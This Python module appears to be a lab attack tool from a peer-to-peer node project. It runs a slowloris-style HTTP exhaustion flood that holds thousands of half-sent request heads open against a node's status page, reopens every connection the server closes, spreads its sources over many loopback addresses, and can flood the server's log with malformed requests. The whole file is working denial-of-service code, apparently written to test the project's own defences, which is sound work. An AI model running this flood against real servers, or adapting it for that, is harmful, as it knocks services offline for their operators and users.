"""Half-open HTTP connections held against a node's status page: the HTTP exhaustion attack.

Each connection sends half a request head and then nothing, so a server without caps or deadlines keeps a
descriptor for it for as long as the attacker likes; 1,030 of them once filled a node's 1,024 and its libp2p
streams failed. The attacker reopens every connection the server closes (after a pause), so the pressure lasts,
and can spread its connections over many loopback source addresses, standing in for many machines.

Some connections can send a malformed request instead, again and again, to flood the server's log.
`python -m potluck.lab.attackers.http_flood --port 8000 --connections 2000 --spread 50` floods until SIGTERM,
SIGINT or `--duration`; it prints one JSON line once every connection has been tried, and one with its counts
when it stops.
"""

import argparse
import asyncio
import contextlib
import dataclasses
import json
import random
import signal
import sys
from collections.abc import Sequence
from dataclasses import dataclass

HALF_HEAD = b"GET /api/status HTTP/1.1\r\nHost: potluck\r\nUser-Agent: "  # a head that is never finished
INVALID_HEAD = b"GET /api/status HTTP/1.1\r\nHost potluck\r\n\r\n"  # no colon: a 400, and a warning in the log
CONNECT_TIMEOUT_S = 5.0
MAX_CONNECTING = 256  # connects in flight at once, so the first pass does not overflow the server's accept queue
DESCRIPTOR_MARGIN = 64  # descriptors the attacker needs besides its connections (interpreter, pipes, event loop)


class FloodError(Exception):
    """The flood cannot run as asked (too few descriptors, say); the message says why."""


@dataclass(kw_only=True, slots=True)
class FloodCounts:
    """What a flood has done so far."""

    attempts: int = 0
    connected: int = 0  # connects that completed (the kernel's handshake: the server may close them at once)
    failed: int = 0  # connects refused, reset or timed out
    closed_by_server: int = 0  # connections the server closed (a cap, a deadline)
    holding: int = 0  # open right now
    most_held: int = 0  # the most open at once

    def as_dict(self) -> dict[str, int]:
        """The counts as a JSON-ready mapping."""
        return dataclasses.asdict(self)


def loopback_sources(count: int) -> list[str]:
    """`count` distinct loopback addresses other than 127.0.0.1 (Linux routes all of 127/8 to this machine)."""
    return [f"127.77.{i // 250}.{i % 250 + 1}" for i in range(count)]


async def flood(
    host: str,
    port: int,
    *,
    connections: int,
    stop: asyncio.Event,
    counts: FloodCounts,
    sources: Sequence[str] = (),
    reconnect_after_s: float = 1.0,
    invalid: int = 0,
    tried: asyncio.Event | None = None,
) -> None:
    """Hold `connections` half-sent requests to host:port until `stop` is set, reopening each one the server
    closes after about `reconnect_after_s`; connection i comes from `sources[i % len(sources)]` (none: the
    system's choice). The first `invalid` of them send a malformed request instead, which servers answer, log
    and close: a flood of log lines. `tried` is set once every connection has been tried once."""
    connecting = asyncio.Semaphore(MAX_CONNECTING)
    untried = [connections]

    def first_try_done() -> None:
        untried[0] -= 1
        if untried[0] == 0 and tried is not None:
            tried.set()

    async def hold(index: int) -> None:
        source = sources[index % len(sources)] if sources else None
        head = INVALID_HEAD if index < invalid else HALF_HEAD
        first = True
        while not stop.is_set():
            opened = await _connect(host, port, head, source=source, connecting=connecting, counts=counts)
            if first:
                first = False
                first_try_done()
            if opened is not None:
                await _hold_open(*opened, counts=counts)
            await asyncio.sleep(reconnect_after_s * random.uniform(0.5, 1.5))  # noqa: S311 - jitter, not secrets

    tasks = [asyncio.create_task(hold(i)) for i in range(connections)]
    try:
        await stop.wait()
    finally:
        # again and again: asyncio.wait_for before Python 3.12 can swallow a cancellation that meets a connect
        while pending := [task for task in tasks if not task.done()]:
            for task in pending:
                task.cancel()
            await asyncio.wait(pending, timeout=1)


async def _connect(
    host: str, port: int, head: bytes, *, source: str | None, connecting: asyncio.Semaphore, counts: FloodCounts
) -> tuple[asyncio.StreamReader, asyncio.StreamWriter] | None:
    """A new connection that has sent `head`, or None when the connect failed."""
    async with connecting:
        counts.attempts += 1
        try:
            reader, writer = await asyncio.wait_for(
                asyncio.open_connection(host, port, local_addr=(source, 0) if source else None), CONNECT_TIMEOUT_S
            )
        except (OSError, asyncio.TimeoutError):
            counts.failed += 1
            return None
    writer.write(head)
    counts.connected += 1
    return reader, writer


async def _hold_open(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, *, counts: FloodCounts) -> None:
    """Keep a connection open until the server closes it (or the flood is cancelled)."""
    counts.holding += 1
    counts.most_held = max(counts.most_held, counts.holding)
    try:
        while await reader.read(65536):  # an error reply (408, 503) may come before the close
            pass
        counts.closed_by_server += 1
    except OSError:  # reset by the server
        counts.closed_by_server += 1
    finally:
        counts.holding -= 1
        writer.close()


def raise_own_descriptor_limit(connections: int) -> int:
    """Raise this process's soft open-file limit to fit `connections` (as far as the hard limit allows); the new
    soft limit, or FloodError when it cannot fit them."""
    import resource  # POSIX only, as the attack is

    needed = connections + DESCRIPTOR_MARGIN
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < needed and (hard == resource.RLIM_INFINITY or hard >= needed):
        resource.setrlimit(resource.RLIMIT_NOFILE, (needed, hard))
        soft = needed
    if soft < needed:
        raise FloodError(f"{connections} connections need {needed} open files; the hard limit is {hard} (ulimit -Hn)")
    return soft


async def _run(args: argparse.Namespace) -> None:
    """Flood as `args` say; print a JSON line when every connection has been tried, and one when stopped."""
    stop, tried, counts = asyncio.Event(), asyncio.Event(), FloodCounts()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    if args.duration:
        loop.call_later(args.duration, stop.set)
    task = asyncio.create_task(
        flood(
            args.host,
            args.port,
            connections=args.connections,
            stop=stop,
            counts=counts,
            sources=loopback_sources(args.spread),
            reconnect_after_s=args.reconnect_after,
            invalid=args.invalid,
            tried=tried,
        )
    )
    waiting = asyncio.create_task(tried.wait())
    await asyncio.wait({task, waiting}, return_when=asyncio.FIRST_COMPLETED)
    if tried.is_set():
        print(json.dumps({"event": "flooding", **counts.as_dict()}), flush=True)
    waiting.cancel()
    await task
    print(json.dumps({"event": "stopped", **counts.as_dict()}), flush=True)


def main(argv: Sequence[str] | None = None) -> int:
    """Run the flood from the command line; the exit status."""
    parser = argparse.ArgumentParser(prog="python -m potluck.lab.attackers.http_flood", description=__doc__)
    parser.add_argument("--host", default="127.0.0.1", help="the status page's address")
    parser.add_argument("--port", type=int, default=8000, help="the status page's port")
    parser.add_argument("--connections", type=int, default=2000, help="half-sent requests held at once")
    parser.add_argument("--spread", type=int, default=0, help="loopback source addresses to spread them over")
    parser.add_argument("--invalid", type=int, default=0, help="of the connections, how many send malformed requests")
    parser.add_argument("--reconnect-after", type=float, default=1.0, help="seconds before reopening a closed one")
    parser.add_argument("--duration", type=float, default=0.0, help="stop after this many seconds (0: on a signal)")
    args = parser.parse_args(argv)
    try:
        raise_own_descriptor_limit(args.connections)
    except FloodError as e:
        print(f"error: {e}", file=sys.stderr)
        return 2
    with contextlib.suppress(KeyboardInterrupt):
        asyncio.run(_run(args))
    return 0


if __name__ == "__main__":
    sys.exit(main())
